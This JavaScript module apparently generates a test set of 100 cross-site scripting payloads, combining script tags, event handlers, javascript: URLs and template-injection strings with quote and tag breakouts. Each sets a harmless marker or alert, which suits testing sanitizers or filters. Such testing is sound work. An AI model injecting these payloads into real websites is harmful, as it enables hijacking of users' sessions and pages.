// A hundred names that would run a script where a page took them for markup, an address or code: each of them sets
// window.ran or opens a dialog.
const shapes = [
  '<script>RUN</script>',
  '<ScRiPt >RUN</sCrIpT >',
  '<img src=x onerror=RUN>',
  '<img src="data:," onload="RUN" onerror="RUN">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<body onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<a href="javascript:RUN" autofocus onfocus=RUN>x</a>',
  '<video><source onerror=RUN></video>',
  '<style>*{animation:a 1s}@keyframes a{}</style><i onanimationstart=RUN>',
  '<math><mtext><style><img src=x onerror=RUN></style></mtext></math>',
  '<link rel=stylesheet href="data:text/css," onload=RUN>',
  '<template><img src=x onerror=RUN></template><img src=x onerror=RUN>',
  '<base href="javascript:RUN//">',
  '${RUN}',
  '{{constructor.constructor("RUN")()}}',
  'javascript:RUN',
  'x" onmouseover="RUN" onfocus="RUN" autofocus="',
  "x' onmouseover='RUN' onfocus='RUN' autofocus='",
];
const escapes = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'--></title></script></option></style>${text}`,
  (text) => `\\u0022;RUN;//\\${text}<!--`,
];

export const payloads = escapes.flatMap((escape, i) => shapes.map((shape, k) =>
  escape(shape).replaceAll('RUN', (i + k) % 2 ? 'alert(1)' : '(window.ran=1)')));
